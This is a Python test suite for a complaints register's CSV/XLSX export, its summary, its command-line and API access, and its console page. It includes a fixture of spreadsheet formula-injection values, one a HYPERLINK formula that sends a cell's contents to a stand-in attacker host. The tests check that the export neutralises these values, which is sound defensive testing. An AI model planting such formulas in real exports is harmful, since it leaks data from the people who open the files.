"""The register exported for auditors and the regulator (CSV and XLSX), and
its summary by category and outcome: exact rows for the seeded register
(tests/helpers/seeded_register.py), text that would start a formula
neutralised (in `complaints report --format csv` too), from the command line,
the API and the console."""

import csv
import io
from datetime import datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import asyncpg
import httpx
from openpyxl import load_workbook

from complaints.settings import Settings
from reporting.formats import as_csv as report_csv
from reporting.kpis import kpi_report
from reporting.model import Dimension
from reporting.register_export import COLUMNS, as_csv, cells, register_rows
from reporting.register_summary import SummaryRow, register_summary
from reporting.register_workbook import REGISTER_SHEET, SUMMARY_SHEET, as_xlsx
from tests.helpers.cli import complaints
from tests.helpers.console import sign_in, with_password
from tests.helpers.seeded_register import AS_OF, MARCH, add_complaint, at, seed_register

# The complaints received in March, oldest first; times in Paris (summer time from 29 March).
MARCH_REGISTER = """\
reference,sent_at,received_at,channel,complainant_type,product,category,regime,acknowledged_at,acknowledgement_method,answered_at,outcome,merged_into,compensation_kinds,compensation_amount,contested,reviewed,mediation_referral,acknowledgement_deadline,assessment_deadline,response_deadline,regulatory_deadline,phase,closed_at
T-A,,2026-03-02T09:00:00+01:00,email,,Vase,livraison,general,2026-03-02T10:00:00+01:00,email,2026-03-07T10:00:00+01:00,accepted,,refund,30.00,no,no,no,met,met,met,met,closed,2026-03-22T09:00:00+01:00
T-D,,2026-03-03T08:00:00+01:00,web,,Lampe,sécurité,general,2026-03-03T10:00:00+01:00,email,,,,,,no,no,no,met,met,missed,,handling,
T-B,,2026-03-05T10:00:00+01:00,phone,,Vase,livraison,general,2026-03-15T10:00:00+01:00,email,2026-03-25T10:00:00+01:00,partially_accepted,,"commercial_gesture, credit_note",70.50,yes,yes,yes,met,met,missed,missed,closed,2026-04-04T11:00:00+02:00
T-C,,2026-03-10T14:00:00+01:00,email,,Lampe,facturation,general,2026-03-20T14:00:01+01:00,email,2026-03-23T14:00:01+01:00,rejected,,,,no,no,no,missed,missed,met,met,closed,2026-04-04T15:00:00+02:00
T-E,,2026-03-31T23:30:00+02:00,letter,,,,general,,,,,,,,no,no,no,missed,,,,intake,
"""  # noqa: E501

TWENTY = Decimal("20.00")
MARCH_SUMMARY = [
    SummaryRow("facturation", "rejected", 1, 1, Decimal("13.00"), Decimal("13.00"), Decimal("13.00"), 1, 0, 1, 0),
    SummaryRow("livraison", "accepted", 1, 1, Decimal("5.04"), Decimal("5.04"), Decimal("5.04"), 1, 0, 1, 0),
    # B's final answer is its review's, journaled when the register was seeded: after its regulatory due date
    SummaryRow("livraison", "partially_accepted", 1, 1, TWENTY, TWENTY, TWENTY, 0, 1, 0, 1),
    SummaryRow("sécurité", None, 1, 0, None, None, None, 0, 1, 0, 0),
    SummaryRow(None, None, 1, 0, None, None, None, 0, 0, 0, 0),
]

FORMULAS = {
    "product": '=HYPERLINK("http://attaquant.example/?d="&A1,"Voir")',
    "category": "+33 1 23 45 67 89",
    "handler": "@SUM(1+1)",
    "customer_id": "-2+3",
    "channel": "\r=1+1",
}


async def test_the_register_of_a_period_row_by_row(pool: asyncpg.Pool) -> None:
    await seed_register(pool)
    rows = await register_rows(pool, *MARCH)
    assert as_csv(rows, "Europe/Paris") == MARCH_REGISTER
    assert await register_summary(pool, *MARCH) == MARCH_SUMMARY


async def test_the_workbook_opened_back_holds_the_same_rows_and_the_summary(pool: asyncpg.Pool) -> None:
    await seed_register(pool)
    content = as_xlsx(await register_rows(pool, *MARCH), await register_summary(pool, *MARCH), "Europe/Paris")

    book = load_workbook(io.BytesIO(content))
    assert book.sheetnames == [REGISTER_SHEET, SUMMARY_SHEET]
    sheet = [list(row) for row in book[REGISTER_SHEET].iter_rows(values_only=True)]
    assert sheet[0] == COLUMNS
    assert [row[0] for row in sheet[1:]] == ["T-A", "T-D", "T-B", "T-C", "T-E"]
    b = dict(zip(COLUMNS, sheet[3], strict=True))
    assert b["received_at"] == datetime(2026, 3, 5, 10, 0)  # local time, as Excel has no zones
    assert b["closed_at"] == datetime(2026, 4, 4, 11, 0)
    assert b["compensation_amount"] == 70.5 and b["mediation_referral"] is True and b["sent_at"] is None
    # every cell as exported, times naive local, amounts as numbers
    zone = ZoneInfo("Europe/Paris")
    rows = await register_rows(pool, *MARCH)
    local = [[v.replace(tzinfo=None) if isinstance(v, datetime) else v for v in cells(row, zone)] for row in rows]
    assert sheet[1:] == local
    summary = list(book[SUMMARY_SHEET].iter_rows(values_only=True))
    assert summary[1] == ("facturation", "rejected", 1, 1, 13, 13, 13, 1, 0, 1, 0)
    assert summary[5] == (None, None, 1, 0, None, None, None, 0, 0, 0, 0)


async def test_text_that_would_start_a_formula_is_neutralised(pool: asyncpg.Pool) -> None:
    await add_complaint(pool, "T-X", at(4), **FORMULAS)
    rows = await register_rows(pool, *MARCH)

    exported = next(csv.DictReader(io.StringIO(as_csv(rows, "Europe/Paris"))))
    assert exported["product"] == "'" + FORMULAS["product"]
    assert exported["category"] == "'" + FORMULAS["category"]
    assert exported["channel"] == "'\n=1+1"  # its carriage return a line feed: the row stays whole

    book = load_workbook(io.BytesIO(as_xlsx(rows, await register_summary(pool, *MARCH), "Europe/Paris")))
    header, row = list(book[REGISTER_SHEET].iter_rows(min_row=1, max_row=2))
    cells = {title.value: cell for title, cell in zip(header, row, strict=True)}
    for name in ("product", "category"):  # the text as typed, but a text cell, never a formula
        assert cells[name].value == FORMULAS[name] and cells[name].data_type == "s", name
    assert cells["channel"].data_type == "s"  # (XML reads its carriage return back as a line feed)
    assert book[SUMMARY_SHEET]["A2"].value == FORMULAS["category"] and book[SUMMARY_SHEET]["A2"].data_type == "s"


async def test_the_report_csv_neutralises_formulas_too(pool: asyncpg.Pool, settings: Settings) -> None:
    """`complaints report --format csv`: a breakdown's values are rows' scopes."""
    await add_complaint(pool, "T-X", at(4), **FORMULAS)
    printed = await complaints(
        settings, "report", "--from", "2026-03-01", "--to", "2026-03-31", "--by", "product", "--format", "csv"
    )
    assert printed.returncode == 0, printed.stderr
    scopes = {row["scope"] for row in csv.DictReader(io.StringIO(printed.stdout))}
    assert "'" + FORMULAS["product"] in scopes and FORMULAS["product"] not in scopes
    breakdowns: list[tuple[Dimension, str]] = [("handler", "handler"), ("customer", "customer_id")]
    breakdowns.append(("channel", "channel"))
    for by, name in breakdowns:
        grouped = report_csv(await kpi_report(pool, *MARCH, by, as_of=AS_OF))
        expected = "'" + FORMULAS[name].replace("\r", "\n")
        assert expected in {row["scope"] for row in csv.DictReader(io.StringIO(grouped))}, by
    plain = report_csv(await kpi_report(pool, *MARCH, as_of=AS_OF))
    assert all(not row["value"].startswith("'") for row in csv.DictReader(io.StringIO(plain)))  # numbers kept


async def test_the_register_from_the_command_line(pool: asyncpg.Pool, settings: Settings, tmp_path) -> None:
    await seed_register(pool)
    period = ["--from", "2026-03-01", "--to", "2026-03-31"]
    printed = await complaints(settings, "register", "export", *period)
    assert printed.returncode == 0, printed.stderr
    assert printed.stdout == MARCH_REGISTER

    target = tmp_path / "registre.xlsx"
    written = await complaints(settings, "register", "export", *period, "--format", "xlsx", "--output", str(target))
    assert written.returncode == 0, written.stderr
    rows = [row[0] for row in load_workbook(target)[REGISTER_SHEET].iter_rows(values_only=True)]
    assert rows[1:] == ["T-A", "T-D", "T-B", "T-C", "T-E"]

    summary = await complaints(settings, "register", "summary", "--year", "2026")
    assert summary.returncode == 0, summary.stderr
    lines = list(csv.DictReader(io.StringIO(summary.stdout)))
    assert sum(int(line["complaints"]) for line in lines) == 8  # February to April
    backwards = await complaints(settings, "register", "export", "--from", "2026-03-31", "--to", "2026-03-01")
    assert backwards.returncode == 2 and "before it starts" in backwards.stderr


async def test_the_register_over_http_for_managers_only(
    pool: asyncpg.Pool, http: httpx.AsyncClient, keys: dict[str, dict[str, str]]
) -> None:
    await seed_register(pool)
    period = "from=2026-03-01&to=2026-03-31"
    exported = await http.get(f"/reports/register?{period}", headers=keys["manager"])
    assert exported.status_code == 200, exported.text
    assert exported.headers["content-type"].startswith("text/csv")
    assert exported.headers["content-disposition"] == 'attachment; filename="registre-2026-03-01-2026-03-31.csv"'
    assert exported.text == MARCH_REGISTER
    workbook = await http.get(f"/reports/register?{period}&format=xlsx", headers=keys["manager"])
    assert workbook.status_code == 200
    assert load_workbook(io.BytesIO(workbook.content)).sheetnames == [REGISTER_SHEET, SUMMARY_SHEET]

    summary = await http.get(f"/reports/register/summary?{period}", headers=keys["manager"])
    assert summary.status_code == 200
    assert summary.json()[1] == {
        "category": "livraison",
        "outcome": "accepted",
        "complaints": 1,
        "answered": 1,
        "mean_days_to_answer": "5.04",
        "max_days_to_answer": "5.04",
        "mean_days_from_sending": "5.04",
        "response_met": 1,
        "response_missed": 0,
        "regulatory_met": 1,
        "regulatory_missed": 0,
    }
    assert (await http.get(f"/reports/register?{period}", headers=keys["handler"])).status_code == 403
    assert (await http.get(f"/reports/register?{period}")).status_code == 401
    for bad in ("from=2026-03-31&to=2026-03-01", f"{period}&format=pdf", "from=31/03/2026"):
        refused = await http.get(f"/reports/register?{bad}", headers=keys["manager"])
        assert refused.status_code == 422, bad
        assert refused.headers["content-type"].startswith("application/problem+json")


async def test_the_register_page_of_the_console(pool: asyncpg.Pool, http: httpx.AsyncClient, keys: dict) -> None:
    await seed_register(pool)
    await with_password(pool, "Alice")
    await sign_in(http, "Alice")
    assert (await http.get("/console/registre")).status_code == 403  # a handler
    http.cookies.clear()
    await with_password(pool, "Chloé")
    await sign_in(http, "Chloé")

    page = await http.get("/console/registre", params={"du": "2026-03-01", "au": "2026-03-31"})
    assert page.status_code == 200, page.text
    assert "Synthèse du 01/03/2026 au 31/03/2026" in page.text and "Acceptée en partie" in page.text
    assert "/console/registre/export?du=2026-03-01&amp;au=2026-03-31&amp;format=xlsx" in page.text
    download = await http.get("/console/registre/export", params={"du": "2026-03-01", "au": "2026-03-31"})
    assert download.status_code == 200 and download.text == MARCH_REGISTER
    workbook = await http.get(
        "/console/registre/export", params={"du": "2026-03-01", "au": "2026-03-31", "format": "xlsx"}
    )
    assert load_workbook(io.BytesIO(workbook.content))[SUMMARY_SHEET].max_row == 6

    refused = await http.get("/console/registre", params={"du": "2026-03-31", "au": "2026-03-01"})
    assert refused.status_code == 422 and "La période se termine avant de commencer." in refused.text
    wrong = await http.get("/console/registre/export", params={"du": "01/03/2026"})
    assert wrong.status_code == 422 and "AAAA-MM-JJ" in wrong.text
